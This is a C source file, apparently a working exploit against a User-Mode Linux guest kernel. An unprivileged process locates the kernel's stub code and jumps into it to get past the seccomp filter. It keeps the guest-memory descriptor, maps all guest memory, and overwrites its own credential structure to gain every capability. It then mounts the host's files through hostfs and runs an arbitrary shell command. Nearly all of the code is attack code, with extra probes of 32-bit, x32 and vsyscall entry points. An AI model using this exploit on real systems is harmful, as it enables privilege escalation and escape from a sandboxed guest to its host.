/* Attacks the kernel of a guest (User-Mode Linux) from one of its processes, through the stub: the code that this kernel has in
   the address space of each of its processes. It needs no capability. Its argument is a shell command, which runs with
   the files of the guest's host at /mnt.

   The kernel has its processes held by a seccomp filter, or by ptrace. The filter allows the stub's own system calls, and can't
   know who jumped there. The stub receives the descriptor of the guest's memory when the kernel maps a page. This program
   prepares the stub's registers, stack and shared page in such a way that the stub keeps this descriptor, maps all memory
   with it and returns here. With ptrace, the kernel sees each of these calls, and ends the process. All
   offsets are those of the kernel that guest/Dockerfile builds since 26 November 2026; the program compares the code there,
   and a control in a guest with seccomp tells whether they are still right.

   stdout has a line for each success, stderr one for each failure. Exit codes: 0: all was tried; 2: no stub was found; 3: the stub has
   other code. Else a signal ends it. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#define PAGE 4096ul
#define ALL ((char *)0x200000000000ul) /* where the guest's memory is mapped */
#define KERNEL 0x60000000ul            /* the address at which the kernel has the beginning of its memory */
#define GAP (1040ul << 20)             /* that the memory has besides MemTotal (hooks.patch) */

/* struct stub_data of this kernel: offsets, and places in the code of the stub */
enum { FUTEX = 0xf3c, SIGNAL = 0xf40, CONTEXT = 0xf46, STACK = 0x1000 };
enum { WAIT = 0x1bf, MAP = 0x303 };
static const unsigned char code[] = {0x41, 0x55, 0x41, 0x54, 0x55, 0x53, 0x48, 0x8d, 0x05, 0, 0, 0, 0, 0x48, 0x25, 0, 0xf0, 0xff, 0xff};
static const unsigned char code_wait[] = {0x41, 0xc7, 0x85, 0x3c, 0x0f, 0, 0, 1, 0, 0, 0}; /* movl $1, 0xf3c(%r13) */
static const unsigned char code_map[] = {0x0f, 0x05, 0x48, 0x89, 0xc6, 0x48, 0x3b, 0x45, 0}; /* syscall; mov %rax, %rsi; cmp 0(%rbp), %rax */

static char *stub, *shared;
static sigjmp_buf after_fault;
static int faults;

static void fault(int number) {
    (void)number;
    siglongjmp(after_fault, 1);
}

static void skip(int number, siginfo_t *about, void *context) {
    greg_t *at = &((ucontext_t *)context)->uc_mcontext.gregs[REG_RSI];
    (void)number, (void)about;
    *at += 3 * PAGE; /* code, and two pages of data */
    if (++faults % 50000 == 0) usleep(100000); /* a guest whose clock stands still is ended */
    if (*at >= 0x7ffffffff000) siglongjmp(after_fault, 1);
}

static int is_stub(char *volatile at) {
    if (sigsetjmp(after_fault, 1) || memcmp(at, code, sizeof code)) return 0;
    stub = at;
    shared = at + PAGE;
    return 1;
}

/* The stub is below the stack of the kernel's own process, at a random place of 16 GiB. */
static int find_stub(char *volatile at) {
    struct sigaction act = {.sa_sigaction = skip, .sa_flags = SA_SIGINFO | SA_NODEFER};
    while (1) {
        sigaction(SIGSEGV, &act, NULL);
        if (sigsetjmp(after_fault, 1)) return 0;
        char *found = at;
        __asm__ volatile("movb (%0), %%al" : "+S"(found) : : "rax", "memory");
        signal(SIGSEGV, fault);
        for (int page = 0; page < 3; page++)
            if (is_stub(found - page * PAGE)) return 1;
        at = found + 3 * PAGE;
    }
}

/* Jumps to `target` with the registers; returns when the stub returns. `stack`: its stack pointer. */
struct registers {
    uint64_t rdi, rsi, rdx, r10, r8, r9, rax, rbx, rbp, r12, r13, r14, r15;
};
uint64_t kept;
void jump(const struct registers *registers, char *stack, char *target);
__asm__(
    "jump:\n push %rbx\n push %rbp\n push %r12\n push %r13\n push %r14\n push %r15\n"
    " mov %rsp, kept(%rip)\n"
    " lea 1f(%rip), %rax\n mov %rax, 0x50(%rsi)\n" /* the return address, behind 0x20 bytes and six registers */
    " mov %rsi, %rsp\n mov %rdx, %r11\n mov %rdi, %rcx\n"
    " mov 0(%rcx), %rdi\n mov 8(%rcx), %rsi\n mov 16(%rcx), %rdx\n mov 24(%rcx), %r10\n mov 32(%rcx), %r8\n"
    " mov 40(%rcx), %r9\n mov 48(%rcx), %rax\n mov 56(%rcx), %rbx\n mov 64(%rcx), %rbp\n mov 72(%rcx), %r12\n"
    " mov 80(%rcx), %r13\n mov 88(%rcx), %r14\n mov 96(%rcx), %r15\n jmp *%r11\n"
    "1: mov kept(%rip), %rsp\n pop %r15\n pop %r14\n pop %r13\n pop %r12\n pop %rbp\n pop %rbx\n ret\n");

static char area[4 * PAGE] __attribute__((aligned(4096)));
static char *const top = area + 2 * PAGE; /* the stub's stack pointer */

static void put(long offset, uint64_t value) { memcpy(top + offset, &value, sizeof value); }

/* Makes the kernel map a page, and keeps the descriptor with which the stub maps it. Returns it; -1: none came. */
static int keep_descriptor(void) {
    static char control[256] __attribute__((aligned(16)));
    static char byte;
    static uint64_t vector[2];
    char *fresh = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uint16_t offset;
    vector[0] = (uint64_t)&byte;
    vector[1] = 1;
    memset(control, 0xff, sizeof control);
    memset(area, 0, sizeof area);
    kept = 1; /* a page fault or a system call from here on would change the shared page */
    getppid(); /* the shared page now has the whole context of a signal */
    memcpy(&offset, shared + CONTEXT, sizeof offset);
    greg_t *registers = (greg_t *)(shared + STACK + offset);
    registers[REG_TRAPNO] = 14;
    registers[REG_ERR] = 6; /* a write in user mode */
    registers[REG_CR2] = (greg_t)fresh;
    *(int *)(shared + SIGNAL) = SIGSEGV;
    put(-0x10, 99); /* another number of bytes than the stub receives: it then closes no descriptor */
    put(-0x40, (uint64_t)vector); /* struct msghdr begins at -0x50 */
    put(-0x38, 1);
    put(-0x30, (uint64_t)control);
    put(-0x28, sizeof control);
    struct registers set = {.rbp = (uint64_t)shared + FUTEX, .rbx = 1, .r12 = SYS_futex, .r13 = (uint64_t)shared, .r14 = 0};
    jump(&set, top, stub + WAIT);
    return *(int *)(control + 16);
}

/* Calls mmap in the stub, where the filter allows it, for memory at ALL. Returns 0, or the error (negative). */
static long map(size_t size, int flags, int descriptor) {
    static uint64_t entry[8], status[4];
    static char *pages;
    if (!pages) {
        pages = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        mprotect(pages, PAGE, PROT_READ);
    }
    memset(area, 0, sizeof area);
    memset(status, 0, sizeof status); /* of the stub's calls: it says that no further one is due */
    entry[0] = (uint64_t)ALL;
    put(-0x60, (uint64_t)pages + PAGE - SIGNAL - 4); /* a failure writes at SIGNAL, which may only be read; success writes behind it */
    struct registers set = {.rax = SYS_mmap, .rdi = (uint64_t)ALL, .rsi = size, .rdx = PROT_READ | PROT_WRITE, .r10 = flags | MAP_FIXED,
        .r8 = descriptor, .rbp = (uint64_t)entry, .r15 = (uint64_t)status};
    signal(SIGSEGV, fault);
    if (sigsetjmp(after_fault, 1) == 0) jump(&set, top, stub + MAP);
    return status[0];
}

static void reached(const char *what) {
    printf("%s\n", what);
    fflush(stdout);
}

/* Ways into the host's kernel that the guest's kernel might not see, and descriptors that a stub might have from it. */
static void try_calls(void) {
    static time_t (*const old_time)(time_t *) = (time_t (*)(time_t *))0xffffffffff600400; /* vsyscall(2) */
    long number, status;
    __asm__ volatile("int $0x80" : "=a"(number) : "a"(20), "b"(-1), "c"(0), "d"(0), "S"(0), "D"(-1) : "memory", "r8", "r9", "r10", "r11");
    if (number > 0) reached("getpid of 32-bit programs"); /* 20 is writev for 64-bit programs */
    if (syscall(0x40000000 | SYS_getpid) > 0) reached("getpid of x32 programs");
    number = old_time(NULL);
    if (number > 0 && labs(number - time(NULL)) > 3600) reached("the host's clock");
    for (int descriptor = 0; descriptor < 16; descriptor++) {
        if (fork() == 0) {
            for (int open = 0; open < 1024; open++) close(open);
            _exit(map(1 << 20, MAP_SHARED, descriptor) == 0 ? 7 : 0);
        }
        if (wait((int *)&status) > 0 && WIFEXITED((int)status) && WEXITSTATUS((int)status) == 7) reached("a descriptor of the stub");
    }
}

/* Gives this process all capabilities. struct task_struct has the pointers real_cred and cred before the name. struct cred:
   usage, eight ids, securebits, five sets of capabilities. */
static void rise(size_t size) {
    static const char name[16] = "stub-7f3a915c";
    volatile size_t at = 8 << 20;
    uint64_t own = 0;
    char line[256];
    FILE *file = fopen("/proc/self/status", "r");
    while (file && fgets(line, sizeof line, file)) sscanf(line, "CapEff: %lx", &own);
    prctl(PR_SET_NAME, name);
    signal(SIGBUS, fault);
    sigsetjmp(after_fault, 1);
    for (at = (at | (PAGE - 1)) + 1; at < size; at += 8) {
        uint64_t *pointers = (uint64_t *)(ALL + at);
        if (memcmp(pointers, name, 14) || pointers[-1] != pointers[-2] || pointers[-1] - KERNEL >= size) continue;
        uint64_t *sets = (uint64_t *)(ALL + (pointers[-1] - KERNEL) + 48);
        for (int set = 0; set < 4; set++)
            if (sets[set] == own) sets[set] = ~0ul >> 23;
        return;
    }
}

static void attack(const char *command) {
    char line[256];
    size_t size = 0;
    FILE *file = fopen("/proc/meminfo", "r");
    while (file && fgets(line, sizeof line, file)) sscanf(line, "MemTotal: %lu", &size);
    size = size * 1024 + GAP;
    long status = map(PAGE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    fprintf(stderr, "mmap in the stub: %ld\n", status);
    int descriptor = keep_descriptor();
    status = map(size, MAP_SHARED, descriptor);
    fprintf(stderr, "descriptor %d, mmap of the memory: %ld\n", descriptor, status);
    if (status) return;
    reached("all memory of the guest");
    rise(size);
    if (command && mount("none", "/mnt", "hostfs", 0, "/") == 0) {
        reached("the files of the guest's host");
        execl("/bin/sh", "sh", "-c", command, NULL);
    }
}

int main(int count, char **words) {
    int status = 0;
    if (!find_stub((char *)0x7ffbff000000)) return 2;
    if (memcmp(stub + WAIT, code_wait, sizeof code_wait) || memcmp(stub + MAP, code_map, sizeof code_map)) return 3;
    try_calls();
    if (fork() == 0) {
        attack(count > 1 ? words[1] : NULL);
        _exit(0);
    }
    if (wait(&status) > 0 && WIFSIGNALED(status)) fprintf(stderr, "the process that called in the stub ended with signal %d\n", WTERMSIG(status));
    return 0;
}
